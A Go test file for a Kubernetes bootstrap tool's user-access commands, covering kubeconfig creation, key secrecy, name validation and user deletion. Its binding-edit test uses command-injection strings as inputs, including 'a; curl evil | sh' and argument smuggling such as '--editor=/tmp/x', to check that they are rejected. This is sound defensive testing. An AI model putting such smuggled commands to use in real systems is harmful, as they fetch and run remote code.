package access

import (
	"archive/tar"
	"compress/gzip"
	"crypto/tls"
	"encoding/base64"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"os"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"kgpu.dev/kgpu/bootstrap/access/kubeconfig"
	"kgpu.dev/kgpu/bootstrap/access/kubeconfig/clustertest"
	"kgpu.dev/kgpu/bootstrap/access/sitetest"
	"kgpu.dev/kgpu/bootstrap/event"
	"kgpu.dev/kgpu/bootstrap/plan"
	"kgpu.dev/kgpu/bootstrap/reason"
	"kgpu.dev/kgpu/bootstrap/remote/sshtest"
	"kgpu.dev/kgpu/bootstrap/session"
)

// userSite is a cluster whose control plane signs what user/create brings.
func userSite(t *testing.T, enforced string) (*sitetest.Site, session.Options, *[]byte) {
	t.Helper()
	s, o := sitetest.New(t, "../facts/testdata/worker.txt", "cp1")
	s.Joined["cp1"] = true
	authority := clustertest.NewAuthority(t)
	put(t, s.AdminConf, clustertest.AdminConf(t, authority.Admin(t, "https://api-78e651.lab.kgpu.internal:6443")))
	o.Inventory.Path, o.Inventory.Cluster = filepath.Join(t.TempDir(), "inventory.yaml"), "lab"
	sent := new([]byte)
	s.Servers["cp1"].Handle(func(e *sshtest.Exec) int {
		if !strings.Contains(e.Line, "receive.sh") {
			return s.Exec("cp1", e)
		}
		zip, err := gzip.NewReader(e.Stdin)
		if err != nil {
			return sshtest.Vanish
		}
		var request []byte
		for archive := tar.NewReader(zip); ; {
			h, err := archive.Next()
			if err != nil {
				break
			}
			content, _ := io.ReadAll(archive)
			*sent = append(*sent, content...)
			if path.Base(h.Name) == "request" {
				request = content
			}
		}
		const id = "user/create"
		fmt.Fprintf(e.Stdout, "B\t%s\t0\n", id)
		for name, value := range map[string][]byte{"certificate": authority.Sign(t, request), "enforced": []byte(enforced)} {
			fmt.Fprintf(e.Stdout, "O\t%s\t%s\t%s\n", id, name, base64.StdEncoding.EncodeToString(value))
		}
		fmt.Fprintf(e.Stdout, "D\t%s\t0\t1\t\t\nE\t0\n", id)
		return 0
	})
	return s, o, sent
}

// The kubeconfig is the user's, in their namespace; its key fits the certificate and was told to nobody.
func TestCreateUser(t *testing.T) {
	s, o, sent := userSite(t, "baseline")
	ended, err := CreateUser(t.Context(), o, UserOptions{Name: "joe", Role: "edit", Days: 30})
	must(t, err)
	file := filepath.Join(filepath.Dir(o.Inventory.Path), "lab-joe.kubeconfig")
	data, err := os.ReadFile(file)
	if err != nil || !strings.Contains(ended, file) {
		t.Fatalf("%v; ended with %q", err, ended)
	}
	if info, err := os.Stat(file); err != nil || info.Mode() != 0o600 {
		t.Errorf("%v, %v", info, err)
	}
	a, err := kubeconfig.Parse(data)
	must(t, err)
	if a.Context != "joe@lab" || a.User != "joe" || a.Cluster != "lab" || !strings.Contains(string(data), "namespace: joe") || strings.Contains(string(data), base64.StdEncoding.EncodeToString([]byte("THE-ADMINS-KEY"))) {
		t.Errorf("%s", data)
	}
	if a.Server != "https://127.0.0.1:6443" || a.Name() != "api-78e651.lab.kgpu.internal" {
		t.Errorf("it leads to %s, known as %s", a.Server, a.Name())
	}
	pair, err := tls.X509KeyPair(a.Certificate, a.Key)
	must(t, err)
	if name := pair.Leaf.Subject; name.CommonName != "joe" || len(name.Organization) != 1 || name.Organization[0] != plan.UsersGroup {
		t.Errorf("the certificate is %s's", name)
	}
	if left := time.Until(pair.Leaf.NotAfter); left < 29*24*time.Hour || left > 31*24*time.Hour {
		t.Errorf("it is valid for %s", left)
	}
	block, _ := pem.Decode(a.Key)
	for _, secret := range []string{string(a.Key), string(block.Bytes), base64.StdEncoding.EncodeToString(block.Bytes)} {
		if strings.Contains(string(*sent), secret) || strings.Contains(fmt.Sprint(s.Events()), secret) {
			t.Error("the key was told")
		}
	}
	for _, e := range s.Events() {
		if e.Kind == "warning" {
			t.Errorf("warned of %s", e.Text)
		}
	}

	// Again: another key. A file that is not the user's stays.
	if _, err := CreateUser(t.Context(), o, UserOptions{Name: "joe", Role: "edit", Days: 30}); err != nil {
		t.Fatal(err)
	}
	if again, err := os.ReadFile(file); err != nil || string(again) == string(data) {
		t.Errorf("it was not renewed: %v", err)
	}
	var usage *reason.UsageError
	if _, err := CreateUser(t.Context(), o, UserOptions{Name: "ann", Role: "edit", Days: 30, File: file}); !errors.As(err, &usage) {
		t.Errorf("joe's file became ann's: %v", err)
	}
	for _, bad := range []UserOptions{
		{Name: "Joe", Role: "edit", Days: 1}, {Name: "-joe", Role: "edit", Days: 1}, {Name: "kube-system", Role: "edit", Days: 1}, {Name: "joe", Namespace: "kgpu-notebook", Role: "edit", Days: 1},
		{Name: "joe", Role: "cluster-admin", Days: 1}, {Name: "joe", Role: "edit"}, {Name: "joe\nx", Role: "edit", Days: 1}, {Name: "joe", Namespace: "a/b", Role: "edit", Days: 1},
		{Name: "joe", Role: "edit", Days: 1, File: filepath.Join(filepath.Dir(file), "nowhere", "joe")},
	} {
		if _, err := CreateUser(t.Context(), o, bad); !errors.As(err, &usage) {
			t.Errorf("%+v: %v", bad, err)
		}
	}
}

// What the user's rights are not is told.
func TestWarningsOfUsers(t *testing.T) {
	s, o, _ := userSite(t, "")
	if _, err := CreateUser(t.Context(), o, UserOptions{Name: "joe", Role: "edit", Days: 1000}); err != nil {
		t.Fatal(err)
	}
	var all string
	for _, e := range s.Events() {
		if e.Kind == "warning" {
			all += e.Text + "\n"
		}
	}
	for _, want := range []string{"signs for a shorter time", "pod-security.kubernetes.io/enforce=baseline"} {
		if !strings.Contains(all, want) {
			t.Errorf("no %q in %q", want, all)
		}
	}
}

// What a host says of a binding becomes a command to copy only where a shell could not take it for more.
func TestBindingsToEdit(t *testing.T) {
	for said, want := range map[string]string{
		"-n ops rolebinding team":                    "`kubectl edit -n ops rolebinding team`",
		"clusterrolebinding system:x@y.z":            "`kubectl edit clusterrolebinding system:x@y.z`",
		"clusterrolebinding a; curl evil | sh":       `one whose name is no plain word ("clusterrolebinding a; curl evil | sh")`,
		"-n ops rolebinding a --editor=/tmp/x":       `one whose name is no plain word ("-n ops rolebinding a --editor=/tmp/x")`,
		"-n ops rolebinding --kubeconfig=/tmp/x":     `one whose name is no plain word ("-n ops rolebinding --kubeconfig=/tmp/x")`,
		"-n ops rolebinding `id` clusterrolebinding": "one whose name is no plain word (\"-n ops rolebinding `id` clusterrolebinding\")",
	} {
		if got := edits([]string{said}); len(got) != 1 || got[0] != want {
			t.Errorf("%s: %q, want %q", said, got, want)
		}
	}
}

// Who deletes a user that is none is told so, and who may be meant.
func TestDeleteUser(t *testing.T) {
	s, o := sitetest.New(t, "../facts/testdata/worker.txt", "cp1")
	s.Joined["cp1"] = true
	s.Users = "joe\tjoe\tedit\t\n"
	outputs := map[string]string{}
	s.Servers["cp1"].Handle(func(e *sshtest.Exec) int {
		if !strings.Contains(e.Line, "receive.sh") {
			return s.Exec("cp1", e)
		}
		const id = "user/delete"
		fmt.Fprintf(e.Stdout, "B\t%s\t0\n", id)
		for name, value := range outputs {
			fmt.Fprintf(e.Stdout, "O\t%s\t%s\t%s\n", id, name, base64.StdEncoding.EncodeToString([]byte(value)))
		}
		fmt.Fprintf(e.Stdout, "D\t%s\t0\t1\t\t\nE\t0\n", id)
		return 0
	})
	outputs["found"], outputs["namespaces"], outputs["end"] = "yes\n", "lab\nother\n", "Dec  1 10:00:00 2026 GMT\nDec  1 10:00:00 2027 GMT\n"
	outputs["pods"] = "lab/a\nlab/b\nlab/c\nlab/d\nlab/e\nlab/f\n"
	said, err := DeleteUser(t.Context(), o, "joe")
	for _, want := range []string{"grants joe nothing any more", "until 2027-12-01", "in lab, other;", "pods run on: lab/a, lab/b, lab/c, lab/d, lab/e and 1 more"} {
		if err != nil || !strings.Contains(said, want) {
			t.Errorf("no %q in %q, %v", want, said, err)
		}
	}
	outputs["may"], outputs["bindings"], outputs["accounts"] = "ops\tpods [] [] [get\x1b[1m list]\n", "-n ops rolebinding team\n", "lab/helper\n"
	said, err = DeleteUser(t.Context(), o, "joe")
	if !errors.Is(err, &reason.Error{ID: reason.UserRightsLeft}) || said != "" {
		t.Fatalf("%q, %v", said, err)
	}
	for _, want := range []string{"`kubectl edit -n ops rolebinding team`", "in ops: pods [] [] [get list]"} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("no %q in %q", want, err)
		}
	}
	if e := s.Events(); !slices.ContainsFunc(e, func(e event.Event) bool { return e.Kind == event.Warning && strings.Contains(e.Text, "lab/helper") }) {
		t.Errorf("nothing of lab/helper in %v", e)
	}
	clear(outputs)
	outputs["found"] = "yes\n"
	if said, err := DeleteUser(t.Context(), o, "joe"); err != nil || !strings.HasSuffix(said, "opens nothing as long as there is no new user of that name") {
		t.Errorf("of what another run left: %q, %v", said, err)
	}
	outputs["found"] = "\n"
	var usage *reason.UsageError
	if said, err := DeleteUser(t.Context(), o, "jo"); !errors.As(err, &usage) || said != "" || !strings.Contains(err.Error(), `no user "jo" in this cluster. Did you mean "joe"?`) {
		t.Errorf("%q, %v", said, err)
	}
}

func TestNoClusterNoUser(t *testing.T) {
	_, o := sitetest.New(t, "../facts/testdata/worker.txt", "cp1")
	o.Inventory.Path = filepath.Join(t.TempDir(), "inventory.yaml")
	if _, err := CreateUser(t.Context(), o, UserOptions{Name: "joe", Role: "edit", Days: 1}); !errors.Is(err, &reason.Error{ID: reason.ClusterMissing}) {
		t.Error(err)
	}
}
